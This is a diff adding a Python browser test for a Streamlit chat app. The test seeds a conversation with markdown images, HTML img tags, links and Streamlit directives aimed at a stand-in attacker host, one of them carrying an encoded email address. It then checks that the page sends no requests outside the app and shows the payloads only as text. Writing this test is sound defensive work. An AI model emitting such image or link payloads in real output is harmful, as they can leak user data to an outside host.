@@ -1,0 +1,96 @@
+"""Hostile text on the Chat page, in a real Chromium: the browser asks no host but the app for anything.
+
+A stored conversation whose question, answer, cited passage, file name and title carry images, links, autolinks,
+HTML and Streamlit directives pointing at attacker.invalid, shown to a user whose name does the same; then a new
+question streams an answer quoting it. Every request the page makes is recorded: all go to the app itself (this
+also shows no font or icon comes from a CDN).
+"""
+
+from __future__ import annotations
+
+from urllib.parse import urlsplit
+
+import pytest
+from browser import NO_WATCHER, assistant_messages, browser_page, idle, require_chromium, running_app, screenshot
+
+pytestmark = pytest.mark.browser
+
+ATTACKER = "attacker.invalid"
+USER = f"eve ![u](https://{ATTACKER}/user.png)"
+QUESTION = f"Summarise ![q](https://{ATTACKER}/question.png) <https://{ATTACKER}/q-auto> please"
+ANSWER = f"""The policy is in [1]. ![a](https://{ATTACKER}/answer.png?d=ada%40example.com)
+
+- <img src="https://{ATTACKER}/answer-html.png"> and [a link](https://{ATTACKER}/link)
+- bare https://{ATTACKER}/bare and www.{ATTACKER} and mail eve@{ATTACKER}
+- :red[restyled] :material/warning: ![r][ref]
+
+```python
+print("code stays as written")
+```
+
+[ref]: https://{ATTACKER}/reference.png
+"""
+PASSAGE = f'Travel rules. <img src="https://{ATTACKER}/passage.png"> ![p](https://{ATTACKER}/passage-md.png)'
+FILE_NAME = f"![f](https://{ATTACKER}/file-name.png).pdf"
+NEW_QUESTION = f"What are the travel rules? ![n](https://{ATTACKER}/new-question.png)"
+
+
+def seed_conversation(data_dir) -> None:
+    """The hostile conversation, stored as the app would store it, in the data dir the app will use."""
+    from lib.chat import conversations as chat_store
+    from lib.core.db import make_engine, migrate
+    from lib.core.settings import load_settings
+
+    engine = make_engine(load_settings().database_url)
+    migrate(engine)
+    chat = chat_store.create_session(engine, USER)
+    chat_store.add_message(engine, chat.id, "user", QUESTION)
+    source = {
+        "number": 1,
+        "chunk_id": "c1",
+        "document_id": 1,
+        "document": FILE_NAME,
+        "page": 2,
+        "chunk_index": 0,
+        "text": PASSAGE,
+        "score": 1.0,
+    }
+    chat_store.add_message(engine, chat.id, "assistant", ANSWER, sources=[source], summary="offline/extractive")
+    engine.dispose()
+
+
+def test_hostile_answers_passages_names_and_questions_make_no_request_outside_the_app(data_dir):
+    require_chromium()
+    seed_conversation(data_dir)
+    env = {"WORKBENCH_DATA_DIR": str(data_dir), "WORKBENCH_USER": USER}
+    with running_app(env, args=NO_WATCHER) as url, browser_page("hostile") as page:
+        requests: list[str] = []
+        page.on("request", lambda request: requests.append(request.url))
+        page.goto(url)
+        page.get_by_placeholder("Ask anything").wait_for()
+        idle(page)
+        page.locator('[data-testid="stSidebar"] button', has_text="Summarise").click()
+        answer = assistant_messages(page).filter(has_text="The policy is in [1].")
+        answer.wait_for()
+        answer.locator('[data-testid="stExpander"] summary', has_text="p. 2").click()  # the cited source
+        answer.get_by_text("Travel rules.", exact=False).wait_for()
+        idle(page)
+        box = page.get_by_placeholder("Ask anything")
+        box.fill(NEW_QUESTION)
+        box.press("Enter")
+        assistant_messages(page).nth(1).get_by_text("Offline extract ·", exact=False).wait_for()
+        idle(page)
+        page.wait_for_load_state("networkidle")
+        screenshot(page, "chat-hostile")
+
+        app = urlsplit(url).netloc
+        outside = [u for u in requests if urlsplit(u).scheme not in ("data", "blob") and urlsplit(u).netloc != app]
+        assert outside == []
+        text = page.locator('[data-testid="stApp"]').inner_text().replace("\u2060", "")  # joiners break URLs
+        for shown in (f"https://{ATTACKER}/answer.png", f"{ATTACKER}/passage.png", f"{ATTACKER}/new-question.png"):
+            assert shown in text  # shown to the reader as text
+        assert USER in text and FILE_NAME in text
+        assert page.locator(f'img[src*="{ATTACKER}"], a[href*="{ATTACKER}"], a[href^="mailto:"]').count() == 0
+        messages = page.locator('[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"]')
+        assert messages.locator('[role="img"]').count() == 0  # no :material/…: icon
+        assert messages.locator("code", has_text='print("code stays as written")').count() == 1
